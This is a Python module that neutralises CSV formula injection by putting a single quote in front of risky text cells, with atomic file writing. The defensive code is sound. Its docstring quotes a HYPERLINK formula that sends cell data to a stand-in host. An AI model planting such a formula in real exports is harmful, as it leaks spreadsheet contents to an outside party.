"""Spreadsheet-safe CSV exports (CSV / formula injection; issue 11).

A spreadsheet that opens a CSV runs a cell such as ``=HYPERLINK("http://x?"&A1, "click")``
or ``@SUM(...)`` as a formula.  Released synthetic rows are drawn from a public domain,
but category labels come from the user's schema or table, so an export must not carry
such cells unchanged.  The rule (OWASP "CSV Injection"): a **text** cell that starts with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a single quote ``'`` in front,
which spreadsheets show as text.

What stays as it is:

* cells of numeric and boolean columns (a number like ``-3`` is not text);
* text that is a plain number (``-3``, ``+1.5``, ``-2e5``): it cannot be a formula, and a
  level such as ``-1`` of an ordinal column must round-trip;
* everything when ``raw=True`` (the CLI's and the app's "keep raw values" option).

The neutralised export is for people; programs that read the CSV back should ask for raw
values (a leading quote is then part of the text).
"""

from __future__ import annotations

import os
import re
from typing import IO, Any

from ..base._lazy import pd  # pandas, imported on first use (issue 15)

#: first characters that make a spreadsheet treat a text cell as a formula (OWASP).
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")


def neutralise_cell(v: Any) -> Any:
    """One cell, neutralised.

    Parameters
    ----------
    v : Any
        A cell value.

    Returns
    -------
    Any
        A str starting with a FORMULA_PREFIXES character (and not a plain number) with a
        leading single quote; any other value unchanged.
    """
    if isinstance(v, str) and v.startswith(FORMULA_PREFIXES) and not _PLAIN_NUMBER.match(v):
        return "'" + v
    return v


def spreadsheet_safe(df: pd.DataFrame, raw: bool = False) -> pd.DataFrame:
    """A copy of ``df`` with text cells neutralised (see the module docstring).

    Only object / string columns are looked at; numeric, boolean and datetime columns are
    copied unchanged.  The input is not modified.

    Parameters
    ----------
    df : pandas DataFrame
        The table.
    raw : bool
        True returns an unchanged copy.

    Returns
    -------
    pandas DataFrame
        The copy.
    """
    out = df.copy()
    if raw:
        return out
    for c in out.columns:
        s = out[c]
        if pd.api.types.is_object_dtype(s) or pd.api.types.is_string_dtype(s):
            out[c] = s.map(neutralise_cell)
    return out


def neutralised_count(df: pd.DataFrame) -> int:
    """How many cells :func:`spreadsheet_safe` would change (for a note next to a download).

    Parameters
    ----------
    df : pandas DataFrame
        The table.

    Returns
    -------
    int
        The number of cells.
    """
    n = 0
    for c in df.columns:
        s = df[c]
        if pd.api.types.is_object_dtype(s) or pd.api.types.is_string_dtype(s):
            n += int(sum(1 for v in s.tolist() if neutralise_cell(v) is not v))
    return n


def to_csv_safe(df: pd.DataFrame, path: str | os.PathLike | IO[str] | None = None,
                raw: bool = False) -> str | None:
    """Write ``df`` as CSV (no index), spreadsheet-safe unless raw=True.

    Parameters
    ----------
    df : pandas DataFrame
        The table.
    path : str, os.PathLike, text file or None
        File to write, atomically (blowfish_core.io.atomic: a temporary in the same folder,
        renamed into place; an interrupted or failed write leaves an earlier file as it was); an
        open text file (e.g. a temporary of atomic.Outputs) is written to as it is; None returns
        the CSV text (for a download button).
    raw : bool
        Keep every value as it is.

    Returns
    -------
    str or None
        The CSV text when ``path`` is None, else None.

    Raises
    ------
    OSError
        When the file cannot be written (callers wrap it in their message).
    """
    from . import atomic

    safe = spreadsheet_safe(df, raw=raw)
    if path is None:
        return safe.to_csv(index=False)
    if hasattr(path, "write"):
        safe.to_csv(path, index=False)
    else:
        atomic.write_with(path, lambda f: safe.to_csv(f, index=False))
    return None
